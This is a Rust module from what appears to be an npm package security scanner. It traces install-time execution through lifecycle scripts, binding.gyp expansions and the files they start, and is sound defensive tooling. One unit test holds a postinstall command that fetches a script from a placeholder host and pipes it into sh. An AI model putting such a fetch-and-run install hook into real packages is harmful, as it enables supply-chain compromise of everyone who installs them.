//! Install-time execution: lifecycle scripts, the files they start, and `binding.gyp`.
//!
//! On `npm install` of a registry package npm runs `preinstall`, `install` and `postinstall`
//! (see [`LIFECYCLE`]), and, when the package root holds a `binding.gyp` and no `install` or
//! `preinstall` script is declared, `node-gyp rebuild`, which evaluates the file's command
//! expansions ([`gyp`]). `prepare` (and `preprepare`/`postprepare`, [`GIT_ONLY`]) runs only
//! for git and local-folder installs: it is analysed and reported, but it does not make the
//! package's code install-time.
//!
//! Every command line — lifecycle script, `binding.gyp` expansion, a line of a shell, batch
//! or PowerShell file, a command spawned from JavaScript — is read by [`crate::shell`]: the files it
//! starts (`node f.js`, `sh x.sh`, `cmd /c x.bat`, `regsvr32 x.dll`), inline code
//! (`node -e CODE`, analysed as JavaScript), downloads that are later run, background starts,
//! `npm publish`, destructive commands, network tools, pipes into a shell and host details
//! substituted into arguments. [`mark_install_time`] then follows what install-time code
//! starts or requires, transitively, and marks those files install-time.

mod gyp;
mod python;

use crate::archive::PackageFile;
use crate::classify::FileKind;
use crate::shell;
use crate::signal::{FileFacts, Kind, Signal, dedupe};
use std::collections::{BTreeSet, HashMap, VecDeque};

/// Script names npm runs when it installs a package from the registry.
pub const LIFECYCLE: &[&str] = &["preinstall", "install", "postinstall"];

/// Script names npm runs only when it installs from git or a local folder (and before
/// `npm pack`/`npm publish`): not install-time for a registry package.
pub const GIT_ONLY: &[&str] = &["preprepare", "prepare", "postprepare"];

/// What the lifecycle scripts do.
#[derive(Debug, Default)]
pub struct ScriptFacts {
    /// Signals placed in `package.json` at the script's line.
    pub signals: Vec<Signal>,
    /// Package files the install-time scripts run directly (as written, `./` removed).
    pub entry_files: Vec<String>,
    /// True when `package.json` declares an install-time script (see [`LIFECYCLE`]).
    pub install_scripts: bool,
    /// True when npm runs `node-gyp rebuild` for a root `binding.gyp`: no `install` or
    /// `preinstall` script of its own (or one that calls `node-gyp`), and `gypfile` is not
    /// `false`.
    pub gyp_at_install: bool,
}

/// Analyses the lifecycle scripts of `manifest` (`package.json` bytes for line numbers).
pub fn analyse(manifest: &serde_json::Value, file: Option<&PackageFile>) -> ScriptFacts {
    let mut out = ScriptFacts::default();
    let scripts = manifest.get("scripts").and_then(|s| s.as_object());
    let script = |name: &str| scripts.and_then(|s| s.get(name)).and_then(|v| v.as_str());
    let own_install = script("install").or(script("preinstall"));
    out.gyp_at_install = manifest.get("gypfile") != Some(&serde_json::Value::Bool(false))
        && own_install.is_none_or(|c| c.contains("node-gyp"));
    let text = file
        .map(|f| String::from_utf8_lossy(&f.bytes).into_owned())
        .unwrap_or_default();
    for name in LIFECYCLE.iter().chain(GIT_ONLY) {
        let Some(cmd) = script(name) else {
            continue;
        };
        let line = line_of_key(&text, name);
        let install = LIFECYCLE.contains(name);
        out.install_scripts |= install;
        out.signals.push(Signal {
            kind: Kind::LifecycleScript,
            line,
            func: 0,
            detail: format!("{name}: {cmd}"),
        });
        crate::text::scan_literal(cmd, line, 0, &mut out.signals);
        let mut entries = Vec::new();
        command(
            cmd,
            line,
            &mut shell::Analyser::default(),
            &mut out.signals,
            &mut entries,
        );
        if install {
            out.entry_files.extend(entries.iter().map(|e| normalise(e)));
        }
    }
    out
}

/// True when the lifecycle script at `line` of `package.json` runs only for git and local
/// installs (`prepare` and its hooks).
pub(crate) fn git_only_line(f: &FileFacts, line: u32) -> bool {
    f.of(Kind::LifecycleScript).any(|s| {
        s.line == line
            && GIT_ONLY
                .iter()
                .any(|n| s.detail.strip_prefix(n).is_some_and(|r| r.starts_with(':')))
    })
}

/// The folder of a bundled dependency when `path` is its manifest inside the package
/// (`node_modules/x/package.json` → `node_modules/x`, `lib/node_modules/@s/y/package.json`
/// → `lib/node_modules/@s/y`). npm installs a tarball's `node_modules` folders as they are
/// (`bundleDependencies`) and runs their lifecycle scripts like any dependency's.
pub(crate) fn bundled_dir(path: &str) -> Option<&str> {
    let dir = path.strip_suffix("/package.json")?;
    let segs: Vec<&str> = dir.split('/').collect();
    let n = segs.len();
    let plain = n >= 2
        && segs[n - 2] == "node_modules"
        && !segs[n - 1].is_empty()
        && !segs[n - 1].starts_with('@');
    let scoped = n >= 3
        && segs[n - 3] == "node_modules"
        && segs[n - 2].len() > 1
        && segs[n - 2].starts_with('@')
        && !segs[n - 1].is_empty();
    (plain || scoped).then_some(dir)
}

/// True when `path` is a manifest whose lifecycle scripts npm runs: the package's own
/// `package.json` or a bundled dependency's ([`bundled_dir`]).
pub(crate) fn is_manifest(path: &str) -> bool {
    path == "package.json" || bundled_dir(path).is_some()
}

/// True when a signal at `line` of `f` runs at install time: in `package.json` (or a bundled
/// dependency's), an install-time lifecycle script's line (not `prepare`); elsewhere, an
/// install-time file.
pub(crate) fn at_install(f: &FileFacts, line: u32) -> bool {
    if is_manifest(&f.path) {
        return f
            .of(Kind::LifecycleScript)
            .any(|s| s.line == line && !git_only_line(f, line));
    }
    f.install_time
}

/// True when the signal at `line` of `f` sits in a command line that a shell runs: a
/// lifecycle script, a line of a shell/batch/PowerShell file, a `binding.gyp` expansion.
pub(crate) fn in_command(f: &FileFacts, line: u32) -> bool {
    match f.kind {
        FileKind::Script => true,
        _ if is_manifest(&f.path) => f.of(Kind::LifecycleScript).any(|s| s.line == line),
        _ => f.of(Kind::GypCommand).any(|s| s.line == line),
    }
}

fn line_of_key(text: &str, key: &str) -> u32 {
    let needle = format!("\"{key}\"");
    text.find(&needle).map_or(0, |at| {
        text[..at].bytes().filter(|b| *b == b'\n').count() as u32 + 1
    })
}

/// Analyses one command (lifecycle script, `binding.gyp` expansion, one line of a script
/// file) placed at `line`: shell signals into `signals`, the files it starts and the relative
/// modules its inline code requires into `entries` (as written).
fn command(
    cmd: &str,
    line: u32,
    a: &mut shell::Analyser,
    signals: &mut Vec<Signal>,
    entries: &mut Vec<String>,
) {
    shell::indicators(cmd, line, 0, signals);
    let before = signals.len();
    a.line(cmd, line, 0, signals);
    entries.extend(
        signals[before..]
            .iter()
            .filter(|s| s.kind == Kind::RunsFile)
            .map(|s| s.detail.clone()),
    );
    for (l, code) in std::mem::take(&mut a.js) {
        let (sigs, requires) = crate::js::analyse_inline(&code, l);
        signals.extend(sigs);
        entries.extend(requires);
    }
}

/// A path as a command line writes it, made package-relative: `\\` to `/`, and the
/// `./`, `%~dp0`, `$PSScriptRoot/` and `${__dirname}/` prefixes dropped.
fn normalise(p: &str) -> String {
    let p = p.replace('\\', "/");
    let mut p = p.as_str();
    for prefix in [
        "%~dp0",
        "$PSScriptRoot/",
        "$psscriptroot/",
        "${__dirname}/",
        "./",
    ] {
        while let Some(rest) = p.strip_prefix(prefix) {
            p = rest;
        }
    }
    p.to_string()
}

/// Resolves a relative `require` from `from` to a package file path, trying `.js`, `.cjs`,
/// `.mjs`, `.json` and `/index.js`.
pub(crate) fn resolve(files: &BTreeSet<&str>, from: &str, spec: &str) -> Option<String> {
    let base = from.rsplit_once('/').map_or("", |(d, _)| d);
    let mut parts: Vec<&str> = if base.is_empty() {
        Vec::new()
    } else {
        base.split('/').collect()
    };
    for seg in spec.split('/') {
        match seg {
            "." | "" => {}
            ".." => {
                parts.pop()?;
            }
            s => parts.push(s),
        }
    }
    let joined = parts.join("/");
    let candidates = [
        joined.clone(),
        format!("{joined}.js"),
        format!("{joined}.cjs"),
        format!("{joined}.mjs"),
        format!("{joined}.json"),
        format!("{joined}/index.js"),
    ];
    candidates.into_iter().find(|c| files.contains(c.as_str()))
}

/// Reads shell, batch and PowerShell files and `.gyp`/`.gypi` files (signals added to each
/// file), then marks install-time code: what the install-time lifecycle scripts start, the
/// command expansions of `binding.gyp` when npm runs node-gyp for it, and transitively every
/// file install-time code starts (command lines of scripts and of JavaScript spawns) or
/// requires. `package.json` itself is install-time when it declares an install-time script.
pub fn mark_install_time(facts: &mut [FileFacts], scripts: &ScriptFacts) {
    let mut roots: Vec<(String, String)> = scripts
        .entry_files
        .iter()
        .map(|e| (String::new(), e.clone()))
        .collect();
    let gyp_install = scripts.gyp_at_install && facts.iter().any(|f| f.path == "binding.gyp");
    for f in facts.iter_mut() {
        let Some(text) = f.text.as_deref() else {
            continue;
        };
        let lower = f.path.to_ascii_lowercase();
        if lower.ends_with(".gyp") || lower.ends_with(".gypi") {
            let mut entries = Vec::new();
            let mut signals = Vec::new();
            for e in gyp::expansions(text).into_iter().chain(gyp::actions(text)) {
                signals.push(Signal {
                    kind: Kind::GypCommand,
                    line: e.line,
                    func: 0,
                    detail: crate::signal::truncate(&e.raw, 200),
                });
                crate::text::scan_literal(&e.command, e.line, 0, &mut signals);
                let mut a = shell::Analyser::default();
                command(&e.command, e.line, &mut a, &mut signals, &mut entries);
            }
            if gyp_install && !signals.is_empty() {
                f.install_time = true;
                roots.extend(entries.into_iter().map(|e| (f.path.clone(), e)));
            }
            f.signals.extend(signals);
            dedupe(&mut f.signals);
        } else if f.kind == FileKind::Script {
            let mut a = shell::Analyser::default();
            let mut signals = Vec::new();
            let mut entries = Vec::new();
            for (line, l) in logical_lines(text) {
                command(&l, line, &mut a, &mut signals, &mut entries);
            }
            f.signals.extend(signals);
            dedupe(&mut f.signals);
        }
    }
    let names: BTreeSet<String> = facts.iter().map(|f| f.path.clone()).collect();
    let names: BTreeSet<&str> = names.iter().map(|s| s.as_str()).collect();
    let index: HashMap<String, usize> = facts
        .iter()
        .enumerate()
        .map(|(i, f)| (f.path.clone(), i))
        .collect();
    let mut queue: VecDeque<String> = roots
        .iter()
        .filter_map(|(from, e)| resolve_run(&names, from, e))
        .collect();
    let mut seen = BTreeSet::new();
    while let Some(path) = queue.pop_front() {
        if !seen.insert(path.clone()) {
            continue;
        }
        let Some(f) = index.get(&path).map(|i| &facts[*i]) else {
            continue;
        };
        for r in &f.requires {
            if let Some(to) = resolve(&names, &f.path, r) {
                queue.push_back(to);
            }
        }
        // Files its command lines start (spawned from JavaScript, or a script's lines).
        for s in f.of(Kind::RunsFile) {
            if let Some(to) = resolve_run(&names, &f.path, &s.detail) {
                queue.push_back(to);
            }
        }
    }
    for f in facts.iter_mut() {
        if seen.contains(&f.path) || (scripts.install_scripts && f.path == "package.json") {
            f.install_time = true;
        }
        // A Python file install-time code starts: its capabilities, for the rules.
        if f.install_time
            && let Some(text) = f.text.as_deref()
            && python::is_python(&f.path, text)
        {
            let extra = python::signals(text);
            f.signals.extend(extra);
            dedupe(&mut f.signals);
        }
    }
    mark_called_at_load(facts, &names, &index);
}

/// Detail prefix of a module-wide [`Kind::LoadTime`] signal, followed by the caller's path.
pub(crate) const LOADED_BY: &str = "export called when this module loads: ";

/// A module whose export load-time code of another module calls (`require('./notice')()` at
/// module scope, or in a function that runs at load) runs that export at load too: every
/// function the export reaches (its [`Kind::Export`] signals) gets a [`Kind::LoadTime`] signal
/// whose detail names the caller (see [`LOADED_BY`]). Repeated until nothing changes, so chains
/// of modules are followed.
fn mark_called_at_load(
    facts: &mut [FileFacts],
    names: &BTreeSet<&str>,
    index: &HashMap<String, usize>,
) {
    let at_load =
        |f: &FileFacts, func: u32| func == 0 || f.of(Kind::LoadTime).any(|l| l.func == func);
    for _ in 0..8 {
        let mut targets: Vec<(String, String, String)> = Vec::new();
        for f in facts.iter() {
            for c in f.of(Kind::LoadCall).filter(|c| at_load(f, c.func)) {
                let (spec, member) = c.detail.rsplit_once('#').unwrap_or((&c.detail, ""));
                if let Some(to) = resolve(names, &f.path, spec) {
                    targets.push((to, member.to_string(), f.path.clone()));
                }
            }
        }
        let mut changed = false;
        for (to, member, from) in targets {
            let Some(t) = index.get(&to).map(|i| &mut facts[*i]) else {
                continue;
            };
            let funcs: Vec<u32> = t
                .of(Kind::Export)
                .filter(|e| e.detail.split_once(':').is_some_and(|(_, n)| n == member))
                .map(|e| e.func)
                .collect();
            for func in funcs {
                let detail = format!("{func}: {LOADED_BY}{from}");
                if t.of(Kind::LoadTime).any(|l| l.detail == detail) {
                    continue;
                }
                t.signals.push(Signal {
                    kind: Kind::LoadTime,
                    line: 0,
                    func,
                    detail,
                });
                changed = true;
            }
        }
        if !changed {
            break;
        }
    }
}

/// Resolves a file a command line starts: from the package root (npm runs scripts there),
/// then from the starting file's folder, then with a leading `/` dropped (`path.join(__dirname,
/// 'x.sh')` folds to `/x.sh` when `__dirname` is unknown).
fn resolve_run(names: &BTreeSet<&str>, from: &str, spec: &str) -> Option<String> {
    let spec = normalise(spec);
    if spec.is_empty() || spec.contains("://") {
        return None;
    }
    resolve(names, "", &spec)
        .or_else(|| resolve(names, from, &spec))
        .or_else(|| {
            let bare = spec.trim_start_matches('/');
            (bare != spec).then(|| resolve(names, "", bare)).flatten()
        })
        .or_else(|| {
            // Windows finds `x` as `x.exe`, `x.bat` or `x.cmd`.
            ["exe", "bat", "cmd", "ps1"]
                .iter()
                .find_map(|e| resolve(names, "", &format!("{spec}.{e}")))
        })
}

/// The lines of a script with continuations joined (`\` in `sh`, `^` in batch, a backquote
/// in PowerShell), each with its first 1-based line number.
fn logical_lines(text: &str) -> Vec<(u32, String)> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut first = 0u32;
    for (i, l) in text.lines().enumerate() {
        let l = l.trim_end_matches('\r');
        if cur.is_empty() {
            first = i as u32 + 1;
        }
        let trimmed = l.trim_start();
        let comment = trimmed.starts_with('#') && !trimmed.starts_with("#!")
            || trimmed.to_ascii_lowercase().starts_with("rem ")
            || trimmed.starts_with("::");
        if comment && cur.is_empty() {
            continue;
        }
        match l
            .strip_suffix('\\')
            .or_else(|| l.strip_suffix('^'))
            .or_else(|| l.strip_suffix('`'))
        {
            Some(head) => {
                cur.push_str(head);
                cur.push(' ');
            }
            None => {
                cur.push_str(l);
                out.push((first, std::mem::take(&mut cur)));
            }
        }
    }
    if !cur.is_empty() {
        out.push((first, cur));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn segments_and_entry_files() {
        let manifest = serde_json::json!({"scripts": {"preinstall": "start /B node compile.js & node ./compile.js", "test": "node t.js"}});
        let f = analyse(&manifest, None);
        assert_eq!(f.entry_files, vec!["compile.js", "compile.js"]);
        assert_eq!(f.signals[0].kind, Kind::LifecycleScript);
    }

    #[test]
    fn shell_download_pipe() {
        let manifest = serde_json::json!({"scripts": {"postinstall": "curl -s https://get.example.invalid/x.sh | sh"}});
        let f = analyse(&manifest, None);
        let kinds: Vec<_> = f.signals.iter().map(|s| s.kind).collect();
        assert!(kinds.contains(&Kind::ShellNetwork) && kinds.contains(&Kind::ShellPipeExec));
    }

    #[test]
    fn node_gyp_is_just_a_script() {
        let manifest = serde_json::json!({"scripts": {"install": "node-gyp rebuild"}});
        let f = analyse(&manifest, None);
        assert_eq!(f.signals.len(), 1);
        assert!(f.entry_files.is_empty());
    }
}
